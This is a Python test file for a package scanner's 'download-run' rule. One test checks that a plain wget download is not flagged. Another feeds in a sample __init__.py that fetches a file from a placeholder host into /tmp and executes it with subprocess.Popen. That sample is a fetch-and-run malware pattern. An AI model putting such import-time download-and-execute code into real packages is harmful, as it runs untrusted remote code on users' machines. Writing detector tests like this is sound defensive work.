"""Rules 61: what a downloader is handed it writes, not runs. `wget URL -O /tmp/m.pt` named a
program in `/tmp` in a process call's arguments, which rules 47 to 60 read as a download,
then that program run (`download-run`): the same call fetched it and "ran" it.

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

from tests.support.archives import wheel
from tests.support.scan import judge

WHEEL = "demo-1.0-py3-none-any.whl"


def test_a_download_saved_to_tmp_by_wget_alone_is_not_a_run() -> None:
    init = (
        "import subprocess\n"
        "subprocess.run(['wget', 'https://models.example.org/m.pt', '-O', '/tmp/m.pt'])\n"
    )
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert "download-run" not in rules
    assert not held


def test_the_download_then_run_by_another_call_is() -> None:
    init = (
        "import subprocess\n"
        "subprocess.run(['wget', 'https://cdn.example.net/a', '-O', '/tmp/a'])\n"
        "subprocess.Popen(['/tmp/a'])\n"
    )
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert rules["download-run"] == 10
    assert held
